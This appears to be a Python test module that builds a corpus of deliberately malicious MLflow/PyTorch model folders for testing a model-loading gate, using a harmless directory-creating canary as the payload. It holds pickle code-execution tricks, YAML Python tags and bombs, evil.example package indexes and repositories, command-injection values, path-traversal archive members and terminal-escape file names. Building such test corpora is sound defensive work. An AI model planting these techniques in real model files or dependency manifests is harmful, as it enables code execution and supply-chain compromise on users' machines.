"""Hostile model folders, each built from a good one, and the careless way to load it where there is one.

The payload is the same everywhere: a folder is made, the canary. Nothing here harms a host that runs it.
"""

import copyreg
import gzip
import importlib.util
import io
import json
import os
import pickle
import socket
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

_PICKLES = Path(__file__).with_name("pickles.py")
_spec = importlib.util.spec_from_file_location("hostile_pickles", _PICKLES)
pickles = importlib.util.module_from_spec(_spec)
sys.modules[_spec.name] = pickles
_spec.loader.exec_module(pickles)

Payload, checkpoint = pickles.Payload, pickles.checkpoint

MODEL = "data/model.pth"
CORPUS = {}

MLMODEL = """\
flavors:
  python_function:
    config: {device: null}
    data: data
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.pytorch
    pickle_module_name: mlflow.pytorch.pickle_module
    python_version: 3.11.7
  pytorch:
    code: null
    model_data: data
    pytorch_version: 2.13.0
mlflow_version: 3.17.2
"""
CONDA = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=26.3\n- pip:\n  - torch==2.13.0\n"
PYTHON = "python: 3.11.7\nbuild_dependencies:\n- pip==26.3\n- wheel\ndependencies:\n- -r requirements.txt\n"
ARCHITECTURE = {"layers": [{"type": "Flatten"}, {"type": "Linear", "args": [12, 3], "name": "head"}]}


@dataclass(frozen=True)
class Hostile:
    """``build(folder, canary)`` spoils a good model; ``careless(folder)`` loads it so that the canary sings.

    ``words`` must stand in the line that ends it. ``loads`` marks the few that only the sandbox stops.
    """

    name: str
    build: Callable[[Path, Path], None]
    words: str
    careless: Callable[[Path], object] | None = None
    loads: bool = False


def hostile(name, words, careless=None, *, loads=False):
    def add(build):
        assert name not in CORPUS
        CORPUS[name] = Hostile(name, build, words, careless, loads)
        return build

    return add


def good_model(folder):
    """A model that the gate would load: a network of listed layers, with MLflow's files around it."""
    import torch

    torch.manual_seed(1)
    (folder / "data").mkdir(parents=True)
    network = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(12, 3)).eval()
    torch.save(network, folder / MODEL)
    (folder / "MLmodel").write_text(MLMODEL)
    (folder / "conda.yaml").write_text(CONDA)
    (folder / "python_env.yaml").write_text(PYTHON)
    (folder / "requirements.txt").write_text("mlflow==3.17.2\ntorch==2.13.0\n")


def exported(folder):
    import torch

    network = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(12, 3)).eval()
    example = (torch.zeros(2, 3, 2, 2),)
    (folder / MODEL).unlink()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.export.save(torch.export.export(network, example), folder / "data/model.pt2")


def put(folder, path, content):
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_bytes(content if isinstance(content, bytes) else content.encode())


# Careless ways to load.


def torch_load(folder):
    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return torch.load(folder / MODEL, weights_only=False)


def unpickle(path, skip=0):
    return lambda folder: pickle.loads((folder / path).read_bytes()[skip:])


def twice(path):
    def load(folder):
        with (folder / path).open("rb") as file:
            pickle.load(file)
            pickle.load(file)

    return load


def numpy_load(path):
    def load(folder):
        loaded = np.load(folder / path, allow_pickle=True)
        return [loaded[name] for name in loaded.files] if hasattr(loaded, "files") else loaded

    return load


def joblib_load(path):
    def load(folder):
        import joblib

        return joblib.load(folder / path)

    return load


def imported(folder, path="code/evil.py"):
    """What MLflow does with ``code``: its folder goes on the path and the module is imported."""
    spec = importlib.util.spec_from_file_location("imported_by_a_test", folder / path)
    spec.loader.exec_module(importlib.util.module_from_spec(spec))


def script(canary):
    return f"import os\nos.mkdir({str(canary)!r})\ndef entry():\n    pass\n"


# Pickles in the place of a checkpoint's.

for _name, _build in pickles.OPCODES.items():
    hostile(_name, r"data/model\.pth: ", torch_load)(
        lambda folder, canary, build=_build: put(folder, MODEL, checkpoint(build(canary)))
    )


@hostile("torch.hub", r"refers to torch\.hub\._load_local", torch_load)
def _(folder, canary):
    put(folder, "data/hubconf.py", script(canary))
    put(folder, MODEL, checkpoint(pickles.hub(folder / "data")))


@hostile("runpy of a text file", r"refers to runpy\.run_path", torch_load)
def _(folder, canary):
    put(folder, "extra_files/notes.txt", script(canary))
    put(folder, MODEL, checkpoint(pickles.run_path(folder / "extra_files/notes.txt")))


@hostile("cloudpickle of a function", "cloudpickle", torch_load)
def _(folder, canary):
    import cloudpickle

    class Called:
        def __reduce__(self):
            text = str(canary)
            return (lambda: Path(text).mkdir()), ()

    put(folder, MODEL, checkpoint(cloudpickle.dumps(Called(), protocol=2)))


# Bare pickles, and pickles that only some readers run.


def registered(folder):
    copyreg.add_extension("os", "mkdir", 0xF0)
    try:
        unpickle(MODEL)(folder)
    finally:
        copyreg.remove_extension("os", "mkdir", 0xF0)


def persistent_load(folder):
    class Unpickler(pickle.Unpickler):
        def persistent_load(self, name):
            return Path(name).mkdir()

    return Unpickler(io.BytesIO((folder / MODEL).read_bytes())).load()


hostile("EXT1 of the copyreg registry", "holds pickle", registered)(
    lambda folder, canary: put(folder, MODEL, pickles.extension(canary))
)
hostile("persistent id", "holds pickle", persistent_load)(
    lambda folder, canary: put(folder, MODEL, pickles.persistent(canary))
)
hostile("a second pickle after STOP", "holds pickle", twice(MODEL))(
    lambda folder, canary: put(folder, MODEL, pickle.dumps({"a": 1}) + pickle.dumps(Payload(canary)))
)
hostile("garbage in front of a pickle", "holds unknown data", unpickle(MODEL, skip=9))(
    lambda folder, canary: put(folder, MODEL, b"\x00garbage\x00" + pickle.dumps(Payload(canary)))
)


@hostile("legacy file of torch.save", "holds pickle", torch_load)
def _(folder, canary):
    import torch

    torch.save(Payload(canary), folder / MODEL, _use_new_zipfile_serialization=False)


def tarred(*members):
    """A tar archive of ``(name, content, type)``."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content, kind in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info.linkname = content.decode()
            else:
                info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


@hostile("legacy tar of torch.save", "holds tar archive", torch_load)
def _(folder, canary):
    payload = pickle.dumps(Payload(canary), protocol=2)
    names = ("sys_info", "storages", "tensors", "pickle")
    put(folder, MODEL, tarred(*((name, payload, tarfile.REGTYPE) for name in names)))


# Other containers and other names.


@hostile("npy of objects", "may hold a pickle", numpy_load("data/mean.npy"))
def _(folder, canary):
    np.save(folder / "data/mean.npy", np.array([Payload(canary)], dtype=object), allow_pickle=True)


@hostile("npz of objects", "may hold a pickle", numpy_load("data/stats.npz"))
def _(folder, canary):
    np.savez(folder / "data/stats.npz", mean=np.array([Payload(canary)], dtype=object))


@hostile("joblib, zlib", "not accepted|may hold", joblib_load("data/scaler.joblib"))
def _(folder, canary):
    put(folder, "data/scaler.joblib", zlib.compress(pickle.dumps(Payload(canary))))


@hostile("joblib, zlib, called text", r"notes\.txt: holds zlib stream", joblib_load("extra_files/notes.txt"))
def _(folder, canary):
    put(folder, "extra_files/notes.txt", zlib.compress(pickle.dumps(Payload(canary))))


@hostile("joblib, gzip, as the model", "holds gzip stream", joblib_load(MODEL))
def _(folder, canary):
    put(folder, MODEL, gzip.compress(pickle.dumps(Payload(canary))))


for _path, _words, _protocol in (
    ("state_dict.safetensors", "more than one model|holds pickle", 4),
    ("extra_files/config.json", "holds pickle, and its name says JSON", 4),
    ("extra_files/notes.txt", "holds pickle, and its name says JSON or text", 0),
    ("extra_files/picture.png", "holds pickle, and its name says PNG image", 2),
    ("extra_files/weights", "of this kind is not accepted .pickle.", 2),
    ("README", "holds pickle", 0),
    ("data/optimizer.pkl", "may hold a pickle", 5),
):
    hostile(f"pickle (protocol {_protocol}) called {_path}", _words, unpickle(_path))(
        lambda folder, canary, path=_path, protocol=_protocol: put(
            folder, path, pickle.dumps(Payload(canary), protocol=protocol)
        )
    )


def calling(canary):
    """A pickle in text alone: bytes that can follow any number of harmless ones."""
    return b"cos\nmkdir\n(S'%s'\ntR." % str(canary).encode()


for _path, _before in (
    ("extra_files/logo.gif", lambda: b"GIF89a\n\0\0" + b"0"),
    ("extra_files/long.md", lambda: b"S'" + b"A" * 70_000 + b"'\n0"),
    ("extra_files/steps.log", lambda: b"N0" * 6_000),
    ("registered_model_meta", lambda: b""),
):
    hostile(f"text of a pickle behind other bytes in {_path}", r"pickle", unpickle(_path))(
        lambda folder, canary, path=_path, before=_before: put(folder, path, before() + calling(canary))
    )


@hostile("a pickle whose method is another", "brings its own 'eval'", loads=True)
def _(folder, canary):
    import torch

    whole = torch.load(folder / MODEL, weights_only=False)
    whole.__dict__["eval"] = torch.nn.Identity
    torch.save(whole, folder / MODEL)


@hostile("pickle called state_dict.safetensors, alone", "holds pickle", unpickle("state_dict.safetensors"))
def _(folder, canary):
    (folder / MODEL).unlink()
    put(folder, "architecture.json", json.dumps(ARCHITECTURE))
    put(folder, "state_dict.safetensors", pickle.dumps(Payload(canary)))


@hostile("pickle called model.pt2", "holds pickle", unpickle("data/model.pt2"))
def _(folder, canary):
    (folder / MODEL).unlink()
    put(folder, "data/model.pt2", pickle.dumps(Payload(canary)))


@hostile("zip behind a picture", "holds PNG image with a zip archive behind it")
def _(folder, canary):
    put(
        folder,
        "extra_files/a.png",
        b"\x89PNG\r\n\x1a\n" + bytes(32) + checkpoint(pickle.dumps(Payload(canary))),
    )


# Zip archives.


def unzip_and_load(folder):
    content = (folder / MODEL).read_bytes()
    while content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            content = archive.read(archive.namelist()[-1])
    return pickle.loads(content)


@hostile("zip in a zip in a zip", "is not one that PyTorch writes", unzip_and_load)
def _(folder, canary):
    content = pickle.dumps(Payload(canary))
    for name in ("weights", "inner.zip", "archive/data/inner.zip"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(name, content)
        content = buffer.getvalue()
    put(folder, MODEL, checkpoint(pickle.dumps({}, protocol=2), **{"archive/data/inner.zip": content}))


def edited(folder, change):
    content = bytearray((folder / MODEL).read_bytes())
    change(content)
    put(folder, MODEL, bytes(content))


def central(content, field, value, size=4):
    """Change a field of the directory's entry of ``data.pkl``; its offset as the format counts it."""
    place = content.rfind(b"/data.pkl")
    entry = content.rfind(b"PK\x01\x02", 0, place)
    content[entry + field : entry + field + size] = value.to_bytes(size, "little")


def first_weight(folder):
    with zipfile.ZipFile(folder / MODEL) as archive:
        return next(info for info in archive.infolist() if info.filename.endswith("/data/0"))


@hostile("bad CRC of a tensor", "damaged or forged")
def _(folder, canary):
    end = first_weight(folder).header_offset + 200
    edited(folder, lambda content: content.__setitem__(end, content[end] ^ 1))


@hostile("bad CRC of the pickle", "damaged or forged")
def _(folder, canary):
    edited(folder, lambda content: central(content, 16, 0))


@hostile("two names for one member", "damaged or forged", torch_load)
def _(folder, canary):
    content = bytearray(checkpoint(pickle.dumps(Payload(canary), protocol=2)))
    place = content.find(b"archive/data.pkl")
    content[place : place + 16] = b"archive/data/abc"
    put(folder, MODEL, bytes(content))


@hostile("a member twice", "is there twice", unzip_and_load)
def _(folder, canary):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        names = {"archive/version ": "3"}
        content = checkpoint(pickle.dumps({}, protocol=2), **names)
        buffer = io.BytesIO(content)
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("archive/data.pkl", pickle.dumps(Payload(canary), protocol=2))
    put(folder, MODEL, buffer.getvalue())


@hostile("a size that is a lie", "two different sizes|overlaps|cannot be read")
def _(folder, canary):
    edited(folder, lambda content: central(content, 24, 0xFFFFFF00))


@hostile("zip64 that is a lie", "holds damaged zip|cannot be read|two different sizes")
def _(folder, canary):
    edited(folder, lambda content: central(content, 24, 0xFFFFFFFF))


@hostile("a directory larger than the file", "holds damaged zip")
def _(folder, canary):
    content = bytearray(checkpoint(pickle.dumps({}, protocol=2)))
    end = content.rfind(b"PK\x05\x06")
    content[end + 12 : end + 16] = (0x7FFFFFFF).to_bytes(4, "little")
    put(folder, MODEL, bytes(content))


@hostile("compression bomb", "is compressed or encrypted")
def _(folder, canary):
    zeros = bytes(64 << 20)
    put(
        folder,
        MODEL,
        checkpoint(pickle.dumps({}), compression=zipfile.ZIP_DEFLATED, **{"archive/data/0": zeros}),
    )


@hostile("members that overlap", "overlaps what follows|bytes before|cannot be read")
def _(folder, canary):
    edited(folder, lambda content: central(content, 42, 64))


@hostile("script in front of a zip", "bytes before or after|holds script")
def _(folder, canary):
    put(folder, MODEL, b"#!/bin/sh\nexit\n" + (folder / MODEL).read_bytes())


@hostile("member with a name that climbs", "is not one that PyTorch writes|one root folder")
def _(folder, canary):
    names = {"archive/../../../../tmp/evil": b"x"}
    put(folder, MODEL, checkpoint(pickle.dumps({}, protocol=2), **names))


@hostile("TorchScript archive", "holds TorchScript archive")
def _(folder, canary):
    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.script(torch.nn.Linear(12, 3)), str(folder / MODEL))


@hostile("pickle in a checkpoint behind listed names", "goes on after its end", twice("stream"))
def _(folder, canary):
    with zipfile.ZipFile(folder / MODEL) as archive:
        root = archive.namelist()[0].split("/")[0]
        stream = pickle.dumps({"a": 1}, protocol=2) + pickle.dumps(Payload(canary), protocol=2)
        members = {
            info.filename: archive.read(info) for info in archive.infolist() if "/data/" in info.filename
        }
    put(folder, MODEL, checkpoint(stream, root, **members))
    put(folder, "stream", stream)


# Exported programs.


@hostile(
    "sample inputs of a pt2",
    r"data/sample_inputs/model\.pt: ",
    lambda folder: __import__("torch").export.load(folder / "data/model.pt2"),
)
def _(folder, canary):
    exported(folder)
    path = folder / "data/model.pt2"
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            hit = name.endswith("sample_inputs/model.pt")
            archive.writestr(name, checkpoint(pickle.dumps(Payload(canary), protocol=2)) if hit else content)


# Tar archives beside the model.

for _name, _kind in (
    ("symlink", tarfile.SYMTYPE),
    ("hard link", tarfile.LNKTYPE),
    ("device", tarfile.CHRTYPE),
    ("climbing name", tarfile.REGTYPE),
):
    hostile(f"tar with a {_name}", "of this kind is not accepted .tar archive.")(
        lambda folder, canary, kind=_kind: put(
            folder,
            "data/extra.tar",
            tarred(
                (
                    "../../../evil" if kind == tarfile.REGTYPE else "evil",
                    b"" if kind == tarfile.CHRTYPE else b"/etc/passwd",
                    kind,
                )
            ),
        )
    )


# Files that are no files.


@hostile("symlink out of the folder", "is a link, device or pipe")
def _(folder, canary):
    (folder / "data/notes.txt").symlink_to("/etc/hostname")


@hostile("symlink to /dev/zero", "is a link, device or pipe")
def _(folder, canary):
    (folder / "data/notes.txt").symlink_to("/dev/zero")


@hostile("symlinked folder", "is a link, device or pipe")
def _(folder, canary):
    (folder / "extra").symlink_to("/etc")


@hostile("hard link to a pickle", "holds pickle", unpickle("README.md"))
def _(folder, canary):
    put(folder, "data/a.pkl", pickle.dumps(Payload(canary)))
    os.link(folder / "data/a.pkl", folder / "README.md")


@hostile("FIFO", "is a link, device or pipe")
def _(folder, canary):
    os.mkfifo(folder / "data/notes.txt")


@hostile("socket", "is a link, device or pipe|unreadable name")
def _(folder, canary):
    here = Path.cwd()
    os.chdir(folder)  # a socket's whole path must be short
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("s.txt")
    finally:
        os.chdir(here)


@hostile("hidden file", "a hidden file is not accepted")
def _(folder, canary):
    put(folder, "data/.netrc.txt", "machine a login b")


@hostile("extremely long names", "unreadable name")
def _(folder, canary):
    put(folder, "/".join(["a" * 200] * 3) + "/x.txt", "x")


@hostile("name that is not UTF-8", "unreadable name")
def _(folder, canary):
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.txt")).write_text("x")


@hostile("name that writes on the terminal", "unreadable name")
def _(folder, canary):
    put(folder, "a\n\x1b[2J\x1b[1;1Hverdict: PROMOTE.txt", "x")


@hostile("sparse file of 40 GiB", "more than .* 32 GiB")
def _(folder, canary):
    with (folder / "data/big.txt").open("wb") as file:
        file.truncate(40 << 30)


# Safetensors that lie.


def safetensors(header, body=bytes(156), length=None):
    content = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(content) if length is None else length) + content + body


def tensor(shape, begin, end, dtype="F32"):
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


HEAD = {"head.weight": tensor([3, 12], 0, 144), "head.bias": tensor([3], 144, 156)}
_good = json.dumps(HEAD)

for _name, _content, _words in (
    ("a header beyond the file", safetensors(HEAD, length=10**6), "its header says it is"),
    ("a header of 2^40 bytes", safetensors(HEAD, length=2**40), "its header says it is"),
    ("overlapping tensors", safetensors({**HEAD, "head.bias": tensor([3], 140, 152)}), "overlaps another"),
    ("a shape of 2^62", safetensors({**HEAD, "head.bias": tensor([2**62, 4], 144, 156)}), "number of bytes"),
    ("a key twice", safetensors((_good[:-1] + ", " + _good[1:]).encode()), "a key is there twice"),
    ("negative offsets", safetensors({**HEAD, "head.bias": tensor([3], -12, 0)}), "no two places in order"),
    ("negative sizes", safetensors({**HEAD, "head.bias": tensor([-1, -3], 144, 156)}), "no list of sizes"),
    ("bytes behind the tensors", safetensors(HEAD, bytes(156) + b"\x80\x04N."), "belong to none"),
    ("a gap", safetensors({**HEAD, "head.bias": tensor([3], 164, 176)}, bytes(176)), "leaves a gap"),
    ("a header nested deeply", safetensors(b"{" + b'"a":{' * 50_000), "header cannot be read"),
    ("a dtype of objects", safetensors({"x": tensor([3], 0, 12, "O")}, bytes(12)), "not on the list"),
):  # fmt: skip

    def _build(folder, canary, content=_content):
        (folder / MODEL).unlink()
        put(folder, "data/architecture.json", json.dumps(ARCHITECTURE))
        put(folder, "data/state_dict.safetensors", content)

    hostile(f"safetensors with {_name}", _words)(_build)


# MLmodel and the environment.


def manifest(name, words, change, careless=None):
    @hostile(name, words, careless)
    def _(folder, canary):
        text = change(MLMODEL, canary)
        put(folder, "MLmodel", text)


def tagged(folder):
    import yaml

    yaml.unsafe_load((folder / "MLmodel").read_text())


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
manifest("YAML bomb", "aliases are not accepted", lambda text, _: text + BOMB)
manifest(
    "YAML of a million values", "more than 50,000 values", lambda text, _: f"{text}x: [{'1,' * 400_000}]\n"
)
manifest("YAML with a Python tag", "could not determine a constructor",
    lambda text, canary: f"{text}x: !!python/object/apply:os.mkdir ['{canary}']\n", tagged)  # fmt: skip
manifest("YAML nested deeply", "maximum recursion", lambda text, _: text + "x: " + "[" * 50_000)
manifest("MLmodel with a key twice", "a key is there twice", lambda text, _: text + "flavors: {}\n")


def coded(name, words, change):
    @hostile(name, words, imported)
    def _(folder, canary):
        put(folder, "code/evil.py", script(canary))
        put(folder, "MLmodel", change(MLMODEL))


coded("code folder", "code", lambda text: text.replace("code: null", "code: code"))
coded("loader_module", "loader_module", lambda text: text.replace("mlflow.pytorch\n", "evil\n", 1))
coded(
    "models from code",
    "model_code_path",
    lambda text: text.replace("  pytorch:\n", "    model_code_path: code/evil.py\n  pytorch:\n"),
)


@hostile("pickle_module_info", "pickle_module_info", imported)
def _(folder, canary):
    put(folder, "code/evil.py", script(canary))
    put(folder, "data/pickle_module_info.txt", "evil")


for _what, _path, _content in (
    ("an index", "requirements.txt", "torch==2.13.0\n--index-url http://evil.example/simple\n"),
    ("a URL", "requirements.txt", "torch @ https://evil.example/torch.whl\n"),
    ("a repository", "requirements.txt", "-e git+https://evil.example/x#egg=torch\n"),
    ("a repository", "conda.yaml", CONDA.replace("torch==2.13.0", "git+https://evil.example/x")),
    ("an index behind an encoding", "requirements.txt", "# coding: utf-7\n# +AAo---index-url http://evil/\n"),
    ("an encoding's mark", "requirements.txt", "\ufefftorch==2.13.0\n"),
    ("somebody's channel", "conda.yaml", CONDA.replace("conda-forge", "somebody")),
    ("a command as the version", "python_env.yaml", PYTHON.replace("3.11.7", r'"3.11\nRUN touch x\n#"')),
    ("a command as the name", "conda.yaml", CONDA + 'name: "$(touch x)"\n'),
    ("a channel by URL", "conda.yaml", CONDA.replace("conda-forge", "https://evil.example/channel")),
    ("a Python tag", "conda.yaml", CONDA + "name: !!python/object/apply:os.mkdir ['x']\n"),
    ("a wheel", "python_env.yaml", PYTHON.replace("wheel", "./wheels/evil.whl")),
):
    hostile(f"{_path} with {_what}", rf"{_path}: ")(
        lambda folder, canary, path=_path, content=_content: put(folder, path, content)
    )


# Formats of others, and programs.

_LAMBDA = json.dumps({"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda"}]}})


@hostile("Keras archive with a Lambda", r"of this kind is not accepted .Keras archive.")
def _(folder, canary):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", _LAMBDA)
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    put(folder, "data/model.keras", buffer.getvalue())


for _path, _content, _kind in (
    ("data/model.h5", b"\x89HDF\r\n\x1a\n" + bytes(40) + _LAMBDA.encode(), "HDF5"),
    ("data/model.gguf", b"GGUF\x03\x00\x00\x00{{ ''.__class__.__mro__ }}", "GGUF"),
    ("data/model.onnx", b"\x08\x08\x12\x05torch:\x20location\x12../../../etc/passwd", "ONNX"),
    ("data/lib.so", b"\x7fELF\x02\x01\x01" + bytes(64), "program"),
    ("data/helper.py", b"import os\n", "text"),
    ("data/helper.pyc", b"\xa7\r\r\n" + bytes(12) + b"\xe3", "compiled Python"),
):
    hostile(f"{_path}", rf"of this kind is not accepted \({_kind}")(
        lambda folder, canary, path=_path, content=_content: put(folder, path, content)
    )
hostile("shell script called README", "holds script")(
    lambda folder, canary: put(folder, "README", "#!/bin/sh\nmkdir x\n")
)


# What the files' rules let through and the sandbox stops.


@hostile("layers larger than any memory", "memory|too large|size", loads=True)
def _(folder, canary):
    (folder / MODEL).unlink()
    layers = [{"type": "Flatten"}, {"type": "Linear", "args": [12, 2**36], "name": "head"}]
    put(folder, "data/architecture.json", json.dumps({"layers": layers}))
    put(folder, "data/state_dict.safetensors", safetensors(HEAD))


@hostile("three billion weights in four bytes", ".", loads=True)
def _(folder, canary):
    import torch

    layer = torch.nn.Linear(12, 3)
    layer.weight = torch.nn.Parameter(torch.zeros(1).expand(2**28, 12))
    torch.save(torch.nn.Sequential(torch.nn.Flatten(), layer), folder / MODEL)
